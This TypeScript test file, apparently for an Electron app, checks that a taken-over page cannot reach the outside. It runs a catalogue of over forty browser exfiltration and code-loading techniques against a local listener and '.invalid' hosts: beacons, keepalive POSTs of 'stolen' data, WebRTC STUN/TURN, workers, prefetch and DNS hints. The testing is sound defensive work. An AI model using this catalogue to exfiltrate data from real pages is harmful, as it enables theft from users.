/** A page that was taken over: its ways out to the network, to other windows, to the computer and to foreign code. */
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { expect, heading, test } from '../stage/app.ts'
import { shareDemoWithFiles } from '../stage/shared-app.ts'
import { runIn, startOutside } from './intruder.ts'

/** Every way in which a page can have something fetched, connected to, or sent; `{}` is where to. */
const waysOut = `
  const to = (path) => 'http://127.0.0.1:' + port + '/' + path
  const add = (tag, set, where = document.head) => where.append(Object.assign(document.createElement(tag), set))
  const peer = async (urls) => {
    const one = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] })
    one.createDataChannel('stolen')
    await one.setLocalDescription(await one.createOffer())
    await new Promise((resolve) => (one.onicegatheringstatechange = () => one.iceGatheringState === 'complete' && resolve()))
  }
  const tries = {
    script: () => add('script', { src: to('script.js') }),
    module: () => add('script', { type: 'module', src: to('module.js') }),
    import: () => import(to('import.js')),
    style: () => add('link', { rel: 'stylesheet', href: to('style.css') }),
    inlineStyle: () => add('style', { textContent: '@import "' + to('import.css') + '"; body { background: url(' + to('css') + ') }' }),
    constructedStyle: () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync('body { background: url(' + to('sheet') + ') }')
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    },
    styleProperty: () => (document.body.style.backgroundImage = 'url(' + to('property') + ')'),
    font: () => new FontFace('stolen', 'url(' + to('font') + ')').load(),
    image: () => (new Image().src = to('image')),
    picture: () => add('img', { srcset: to('srcset') + ' 2x' }, document.body),
    audio: () => new Audio(to('audio')).play(),
    video: () => add('video', { poster: to('poster'), src: to('video'), autoplay: true }, document.body),
    object: () => add('object', { data: to('object') }, document.body),
    embed: () => add('embed', { src: to('embed') }, document.body),
    frame: () => add('iframe', { src: to('frame') }, document.body),
    frameWithin: () => add('iframe', { srcdoc: '<img src="' + to('srcdoc') + '">' }, document.body),
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    keepalive: () => fetch(to('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'stolen' }),
    request: () => { const r = new XMLHttpRequest(); r.open('POST', to('xhr')); r.send('stolen') },
    beacon: () => navigator.sendBeacon(to('beacon'), 'stolen'),
    events: () => new EventSource(to('events')),
    socket: () => new WebSocket('ws://127.0.0.1:' + port + '/socket'),
    transport: () => new WebTransport('https://127.0.0.1:' + port + '/transport').ready,
    worker: () => new Worker(to('worker.js')),
    sharedWorker: () => new SharedWorker(to('shared.js')),
    serviceWorker: () => navigator.serviceWorker.register(to('service.js')),
    blobWorker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + to('blob') + '")'], { type: 'text/javascript' }))),
    ping: () => { const a = document.createElement('a'); a.href = '#x'; a.ping = to('ping'); document.body.append(a); a.click() },
    form: () => { add('form', { action: to('form'), method: 'post' }, document.body); document.body.lastElementChild.submit() },
    manifest: () => add('link', { rel: 'manifest', href: to('manifest') }),
    icon: () => add('link', { rel: 'icon', href: to('icon') }),
    prefetch: () => add('link', { rel: 'prefetch', href: to('prefetch') }),
    preload: () => add('link', { rel: 'preload', as: 'script', href: to('preload') }),
    modulepreload: () => add('link', { rel: 'modulepreload', href: to('modulepreload') }),
    prerender: () => add('link', { rel: 'prerender', href: to('prerender') }),
    speculation: () => add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', urls: [to('speculation')] }] }) }),
    preconnect: () => add('link', { rel: 'preconnect', href: to('preconnect') }),
    lookUp: () => add('link', { rel: 'dns-prefetch', href: to('dns') }),
    report: () => add('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + to('report') }),
    svg: () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to('svg') + '"/><use href="' + to('use.svg#a') + '"/></svg>') },
    peerStun: () => peer('stun:127.0.0.1:' + port),
    peerTcp: () => peer('turn:127.0.0.1:' + port + '?transport=tcp'),
    peerUdp: () => peer('turn:127.0.0.1:' + port + '?transport=udp'),
  }
`

const tryThemAll = (port: number) => `(async () => {
  const port = ${port}
  ${waysOut}
  const made = []
  for (const [name, attempt] of Object.entries(tries)) {
    const late = new Promise((resolve) => setTimeout(resolve, 2000))
    try { await Promise.race([attempt(), late]); made.push(name) } catch { /* refused at once */ }
  }
  // Whatever is sent late: images and styles are asked for when the page is drawn next.
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
  return { tried: Object.keys(tries).length, ran: 'remote' in globalThis }
})()`

/** What Chromium's own log of the network says about names that were looked up. */
function lookedUp(log: string): string {
  const { constants, events } = JSON.parse(log) as {
    constants: { logEventTypes: Record<string, number> }
    events: { type: number }[]
  }
  const resolver = Object.entries(constants.logEventTypes).filter(([name]) => /HOST_RESOLVER|DNS/.test(name))
  const types = new Set(resolver.map(([, type]) => type))
  return JSON.stringify(events.filter(({ type }) => types.has(type)))
}

const atLogin = shareDemoWithFiles()

test.describe('a page that was taken over reaches nobody outside', () => {
  test('by none of the ways in which a page loads, connects or sends', async () => {
    const outside = await startOutside()
    try {
      const { demo } = await atLogin()
      const { tried, ran } = (await runIn(demo, 'index.html', tryThemAll(outside.port))) as {
        tried: number
        ran: boolean
      }
      expect(tried).toBeGreaterThan(35)
      expect(ran).toBe(false)
      expect({ connections: outside.connections, datagrams: outside.datagrams() }).toEqual({
        connections: [],
        datagrams: 0,
      })
    } finally {
      outside.close()
    }
  })

  test('not even with the content security policy out of the way', async () => {
    const outside = await startOutside()
    try {
      const { demo, window } = await atLogin()
      const devtools = await demo.app.context().newCDPSession(window)
      await devtools.send('Page.setBypassCSP', { enabled: true })
      await window.reload()
      await expect(heading(window, 'ログイン')).toBeVisible()
      const { ran } = (await runIn(demo, 'index.html', tryThemAll(outside.port))) as { ran: boolean }
      expect(ran).toBe(false)
      expect({ connections: outside.connections, datagrams: outside.datagrams() }).toEqual({
        connections: [],
        datagrams: 0,
      })
    } finally {
      outside.close()
    }
  })

  test('and this host would have noticed: the same ways lead to it from a page without our walls', async () => {
    const outside = await startOutside()
    try {
      const { demo } = await atLogin()
      const ran = await demo.app.evaluate(async ({ BrowserWindow, session }, code) => {
        const unwalled = session.fromPartition('unwalled')
        const window = new BrowserWindow({ show: false, webPreferences: { session: unwalled, sandbox: true } })
        window.webContents.setWebRTCIPHandlingPolicy('default')
        await window.loadURL('data:text/html,<title>unwalled</title>')
        return (window.webContents.executeJavaScript(code, true) as Promise<unknown>).finally(() => window.destroy())
      }, tryThemAll(outside.port))
      expect(ran).toMatchObject({ ran: true })
      await expect.poll(() => outside.connections.length).toBeGreaterThan(15)
      await expect.poll(outside.datagrams).toBeGreaterThan(0)
    } finally {
      outside.close()
    }
  })

  test('nor does it have a name looked up, which would tell the name', async ({ folder }) => {
    const { demo } = await atLogin()
    const file = path.join(folder, 'net-log.json')
    await demo.app.evaluate(
      ({ session }, log) => session.fromPartition('pages').netLog.startLogging(log, { captureMode: 'everything' }),
      file,
    )
    const hosts = ['prefetch', 'preconnect', 'stun', 'anchor', 'asked'].map((name) => `${name}-stolen-9417.invalid`)
    await runIn(
      demo,
      'index.html',
      `(async () => {
      const [prefetch, preconnect, stun, anchor, asked] = ${JSON.stringify(hosts)}
      const link = (rel, host) => document.head.append(Object.assign(document.createElement('link'), { rel, href: 'https://' + host }))
      link('dns-prefetch', prefetch)
      link('preconnect', preconnect)
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'x-dns-prefetch-control', content: 'on' }))
      document.body.append(Object.assign(document.createElement('a'), { href: 'https://' + anchor, textContent: 'x' }))
      fetch('https://' + asked).catch(() => undefined)
      // Not tried: a TURN server's name, which Chromium looks up although nothing is sent there, and cannot be kept from.
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + stun }] })
      peer.createDataChannel('stolen')
      await peer.setLocalDescription(await peer.createOffer())
      await new Promise((resolve) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve()
        setTimeout(resolve, 3000)
      })
    })()`,
    )
    // The log's own proof: a name that the main process asks for stands in it.
    await demo.app.evaluate(({ session }) =>
      session
        .fromPartition('pages')
        .resolveHost('control-9417.localhost')
        .catch(() => undefined),
    )
    await demo.app.evaluate(({ session }) => session.fromPartition('pages').netLog.stopLogging())
    const lookUps = lookedUp(readFileSync(file, 'utf8'))
    expect(lookUps).toContain('control-9417.localhost')
    expect(hosts.filter((host) => lookUps.includes(host))).toEqual([])
  })
})
